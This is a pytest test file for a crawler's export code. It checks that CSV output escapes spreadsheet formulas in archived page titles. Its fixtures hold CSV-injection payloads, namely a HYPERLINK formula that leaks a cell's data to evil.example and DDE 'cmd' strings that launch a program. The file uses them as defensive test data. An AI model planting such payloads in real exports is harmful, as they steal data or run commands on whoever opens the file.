"""What the archive writes and prints holds no formula and no terminal control sequence.

Archived text was written by whoever wrote the page: a title may be a
spreadsheet formula or carry escape sequences for the terminal that prints it.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from scrapy.utils.test import get_crawler

from crawler.export.cells import FORMULA_STARTS, spreadsheet_cell
from crawler.export.feed import ArticleCsvItemExporter
from localcopy.server import ServerThread
from localcopy.site import SEED_ID, LocalSite
from tests.conftest import ROOT, crawl

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Read more")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@dataclass
class Hostile:
    url: str
    feed: Path
    titles: dict[str, str]

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "crawler", *args, "--db", self.url],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )

    def csv_rows(self, *args: str) -> list[dict[str, str]]:
        done = self.run(*args)
        assert done.returncode == 0, done.stderr
        return list(csv.DictReader(io.StringIO(done.stdout)))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The local copy with formulas for titles, crawled once with a CSV feed (`-O items.csv`)."""
    site = LocalSite(pages=40)
    titled = site.related[SEED_ID][: len(FORMULAS)]
    for article_id, title in zip(titled, FORMULAS, strict=True):
        site.retitle(article_id, title)
    work = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{work / 'archive.sqlite3'}"
    with ServerThread(site) as base_url:
        run = crawl(url, "-O", str(work / "items.csv"), start=SEED_ID, base_url=base_url)
    assert run.returncode == 0, run.log
    yield Hostile(url, work / "items.csv", dict(zip(titled, FORMULAS, strict=True)))


def formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell.startswith(FORMULA_STARTS) and spreadsheet_cell(cell) != cell
    ]


# -- CSV: no cell starts a formula -----------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a title = fine", "a title = fine"),
        ("", ""),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(cell, written):
    assert spreadsheet_cell(cell) == written


@pytest.mark.parametrize("number", ["-5", "+5", "-1.25", "+1.5e3", "-.5", "12"])
def test_a_cell_that_is_wholly_a_number_stays_as_it_is(number):
    assert spreadsheet_cell(number) == number


@pytest.mark.parametrize("value", [-5, 3.5, None, True])
def test_a_value_that_is_not_text_stays_as_it_is(value):
    assert spreadsheet_cell(value) is value


def test_export_csv_writes_no_cell_that_starts_a_formula(hostile):
    rows = hostile.csv_rows("export", "--format", "csv")

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {titles[i] for i in hostile.titles} == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


def test_export_csv_with_raw_csv_writes_the_text_exactly(hostile):
    rows = hostile.csv_rows("export", "--format", "csv", "--raw-csv")

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {i: titles[i] for i in hostile.titles} == hostile.titles


def test_export_jsonl_keeps_the_text_exactly(hostile):
    done = hostile.run("export", "--format", "jsonl")

    titles = {r["article_id"]: r["title"] for r in map(json.loads, done.stdout.splitlines())}
    assert {i: titles[i] for i in hostile.titles} == hostile.titles


def test_graph_csv_writes_no_cell_that_starts_a_formula(hostile):
    rows = hostile.csv_rows("graph", "--format", "csv")

    targets = {row["target_title"] for row in rows if row["target_id"] in hostile.titles}
    assert targets == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


def test_graph_csv_with_raw_csv_writes_the_titles_exactly(hostile):
    rows = hostile.csv_rows("graph", "--format", "csv", "--raw-csv")

    targets = {row["target_title"] for row in rows if row["target_id"] in hostile.titles}
    assert targets == set(hostile.titles.values())


def test_a_csv_feed_of_the_crawl_writes_no_cell_that_starts_a_formula(hostile):
    rows = list(csv.DictReader(io.StringIO(hostile.feed.read_text("utf-8"))))

    titles = {row["article_id"]: row["title"] for row in rows}
    assert {titles[i] for i in hostile.titles} == {"'" + t for t in hostile.titles.values()}
    assert formula_cells(rows) == []


@pytest.mark.parametrize(("raw", "written"), [(False, "'=1+1"), (True, "=1+1")])
def test_a_csv_feed_is_raw_only_when_archive_csv_raw_says_so(raw, written):
    crawler = get_crawler(settings_dict={"ARCHIVE_CSV_RAW": raw})
    stream = io.BytesIO()
    exporter = ArticleCsvItemExporter.from_crawler(crawler, stream)

    exporter.start_exporting()
    exporter.export_item({"title": "=1+1"})
    exporter.finish_exporting()

    assert list(csv.reader(io.StringIO(stream.getvalue().decode()))) == [["title"], [written]]
